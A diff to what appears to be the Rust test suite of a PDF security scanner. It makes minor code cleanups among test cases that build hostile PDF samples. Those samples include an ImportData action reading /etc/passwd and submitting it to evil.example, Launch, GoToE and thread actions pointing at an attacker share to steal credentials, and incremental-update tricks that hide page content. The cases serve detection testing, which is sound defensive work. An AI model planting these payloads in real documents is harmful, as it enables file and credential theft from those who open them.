@@ -73,15 +73,14 @@ fn shadow_replace() -> Vec<u8> {
         .build_updated(&[(6, "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(Tanaka)/Rect[10 10 90 30]>>")])
 }
 
-/// A second content waits unused, until an update of the table alone brings it up.
+/// A second content waits unused, until an update brings it up.
 fn shadow_both() -> Vec<u8> {
     let mut doc = Doc::new().stream(8, "", format!("BT /F1 24 Tf 72 700 Td ({BODY}) Tj ET").as_bytes());
     doc.content = b"BT /F1 24 Tf 72 700 Td (old secret price) Tj ET".to_vec();
     let mut out = doc.build();
     let prev = out.windows(6).rposition(|w| w == b"\nxref\n").unwrap() + 1;
-    // Object 4 is now where object 8 stands; a reader that minds the number in its head finds nothing there.
     let at = out.windows(8).position(|w| w == b"\n3 0 obj").unwrap() + 1;
-    let page = String::from_utf8(out[at..].to_vec().split(|b| *b == b'\n').nth(1).unwrap().to_vec()).unwrap();
+    let page = String::from_utf8(out[at..].split(|b| *b == b'\n').nth(1).unwrap().to_vec()).unwrap();
     let page = page.replace("/Contents 4 0 R", "/Contents 8 0 R");
     let place = out.len();
     out.extend_from_slice(format!("3 0 obj\n{page}\nendobj\n").as_bytes());
@@ -124,7 +123,7 @@ cases! {
     "PDF-A03" Disguised "local file leakage: form data read from a file" => Expect::Reported("pdf.import-data"), plain(&open("/S/ImportData/F(/etc/passwd)/Next<</S/SubmitForm/F(http://evil.example/)>>"), &["ImportData", "passwd", "SubmitForm"], &[]);
     "PDF-A03" Disguised "local file leakage: another document on this machine" => Expect::Reported("pdf.remote-goto"), plain(&open("/S/GoToR/F(file:///c:/secret.pdf)/D[0/Fit]"), &["GoToR", "secret.pdf"], &[]);
     "PDF-A09" Disguised "local file leakage: the page's content is a file" => Expect::Reported("pdf.external-stream"), plain(&Doc::new().resources("/XObject<</X 6 0 R>>").content("/X Do").stream(6, &format!("{FORM}/F(/etc/passwd)/FFilter/FlateDecode"), b""), &["passwd", "FFilter"], &[]);
-    "PDF-A09" Disguised "credential theft: a field's value lies on a share" => Expect::Silent, plain(&field("", &format!("/DV 7 0 R")).stream(7, &format!("/F({UNC})"), b""), &["evil.example"], &["(Yamada)"]);
+    "PDF-A09" Disguised "credential theft: a field's value lies on a share" => Expect::Silent, plain(&field("", "/DV 7 0 R").stream(7, &format!("/F({UNC})"), b""), &["evil.example"], &["(Yamada)"]);
     "PDF-A03" Disguised "credential theft: a program on a share" => Expect::Reported("pdf.launch"), plain(&open(&format!("/S/Launch/F({UNC})")), &["Launch", "evil.example"], &[]);
     "PDF-A03" Disguised "credential theft: a document within a document on a share" => Expect::Reported("pdf.remote-goto"), packed(&on_page(&format!("/S/GoToE/F({UNC})/T<</R/C/N(x)>>/D[0/Fit]")), &["GoToE", "evil.example"], &[]);
     "PDF-A03" Disguised "credential theft: a thread in a file on a share" => Expect::Silent, plain(&Doc::new().link(&format!("/A<</S/Thread/F({UNC})/D 0>>")), &["/Thread", "evil.example"], &["/Subtype/Link"]);
